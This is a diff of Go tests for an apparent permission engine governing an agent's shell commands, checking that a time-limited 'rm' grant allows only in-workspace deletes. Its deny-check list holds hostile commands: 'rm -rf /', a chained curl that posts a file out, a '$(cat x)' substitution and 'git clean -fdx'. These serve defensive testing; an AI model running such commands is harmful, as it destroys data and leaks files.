@@ -23,27 +23,28 @@ func TestGrantTurnsAskIntoAllow(t *testing.T) {
 	eng := grantEngine(t)
 	ctx := context.Background()
 	c := testContext("supervised")
-	d, err := eng.Decide(ctx, shellAction("go test ./..."), c)
+	// a recursive delete in the workspace asks at supervised
+	d, err := eng.Decide(ctx, shellAction("rm -r build"), c)
 	if err != nil || d.Decision != Ask {
 		t.Fatalf("without a grant: %s %v", d.Decision, err)
 	}
 	now := time.Now()
 	eng.grants.now = func() time.Time { return now }
 	eng.SetGrants([]Grant{{ID: "g-1", Expires: now.Add(time.Hour), Scope: GrantScope{
-		Tool: "shell", Commands: []GrantCommand{{Program: "go", Subcommand: "test"}}, Args: "any", Paths: []string{"/home/u/ws"}}}})
-	d, err = eng.Decide(ctx, shellAction("go test ./..."), c)
+		Tool: "shell", Commands: []GrantCommand{{Program: "rm"}}, Args: "any", Paths: []string{"/home/u/ws"}}}})
+	d, err = eng.Decide(ctx, shellAction("rm -r build"), c)
 	if err != nil || d.Decision != Allow || d.Grant != "g-1" || !slices.Contains(d.RuleIDs(), "grant.applied") {
 		t.Fatalf("with a grant: %+v %v", d, err)
 	}
-	for _, cmd := range []string{"go run ./...", "go test ./... && curl x", "rm -rf /", "go test $(cat x)"} {
+	for _, cmd := range []string{"rm -r build && curl https://example.com -d @x", "rm -rf /", "rm -r $(cat x)", "rm -r /home/u/other", "git clean -fdx"} {
 		d, _ := eng.Decide(ctx, shellAction(cmd), c)
 		if d.Decision == Allow {
-			t.Errorf("%s: allowed by a go test grant: %+v", cmd, d)
+			t.Errorf("%s: allowed by an rm grant: %+v", cmd, d)
 		}
 	}
 	// expiry takes effect without another SetGrants
 	now = now.Add(2 * time.Hour)
-	d, _ = eng.Decide(ctx, shellAction("go test ./..."), c)
+	d, _ = eng.Decide(ctx, shellAction("rm -r build"), c)
 	if d.Decision != Ask || d.Grant != "" {
 		t.Fatalf("expired grant still applies: %+v", d)
 	}
@@ -56,7 +57,7 @@ func TestGrantsConcurrent(t *testing.T) {
 	eng := grantEngine(t)
 	ctx := context.Background()
 	c := testContext("supervised")
-	scope := GrantScope{Tool: "shell", Commands: []GrantCommand{{Program: "git", Subcommand: "status"}}, Args: "any", Paths: []string{"/home/u/ws"}}
+	scope := GrantScope{Tool: "shell", Commands: []GrantCommand{{Program: "rm"}}, Args: "any", Paths: []string{"/home/u/ws"}}
 	done := make(chan struct{})
 	errs := make(chan string, 4)
 	for range 2 {
@@ -68,7 +69,7 @@ func TestGrantsConcurrent(t *testing.T) {
 					return
 				default:
 				}
-				d, err := eng.Decide(ctx, shellAction("git status"), c)
+				d, err := eng.Decide(ctx, shellAction("rm -r build"), c)
 				if err != nil || d.Decision != Ask && (d.Decision != Allow || d.Grant == "") {
 					errs <- d.Decision + " " + d.Grant
 					return
